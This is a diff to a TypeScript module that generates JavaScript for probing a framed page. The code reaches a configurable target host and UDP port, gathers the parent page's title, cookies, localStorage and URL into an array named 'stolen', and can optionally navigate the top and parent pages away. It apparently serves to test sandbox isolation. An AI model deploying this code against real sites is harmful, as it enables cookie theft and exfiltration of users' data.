@@ -60,9 +60,6 @@ const channels = {
 for (const [name, leave] of Object.entries(channels)) {
   try { Promise.resolve(leave(reach(name))).catch(() => {}); } catch {}
 }
-// Last: where these work, nothing after them runs.
-for (const [name, leave] of [["topnavigation", (u) => { top.location.href = u; }], ["parentnavigation", (u) => { parent.location.href = u; }]])
-  setTimeout(() => { try { leave(reach(name)); } catch {} }, 300);
 const stolen = [];
 for (const take of [
   () => parent.document.title, () => top.document.cookie, () => parent.localStorage.length, () => top.location.href,
@@ -70,9 +67,17 @@ for (const take of [
 window.__stolen = stolen;
 `;
 
-/** The code with its addresses filled in. */
-export function channelsTo(target: string, udpPort: number): string {
-  return `const TARGET = ${JSON.stringify(target)};\nconst UDP = ${udpPort};\n${CHANNELS}`;
+/** Navigations of the page around: where they work, nothing after them runs. */
+const LEAVES = `
+for (const [name, leave] of [
+  ["topnavigation", (u) => { top.location.href = u; }],
+  ["parentnavigation", (u) => { parent.location.href = u; }],
+]) { try { leave(reach(name)); } catch {} }
+`;
+
+/** The code with its addresses filled in; `leaves`: it also tries to navigate the pages around it. */
+export function channelsTo(target: string, udpPort: number, leaves: boolean): string {
+  return `const TARGET = ${JSON.stringify(target)};\nconst UDP = ${udpPort};\n${CHANNELS}${leaves ? LEAVES : ""}`;
 }
 
 export const CHANNEL_COUNT = CHANNELS.match(/^ {2}\w+: (?:async )?\(/gm)?.length ?? 0;
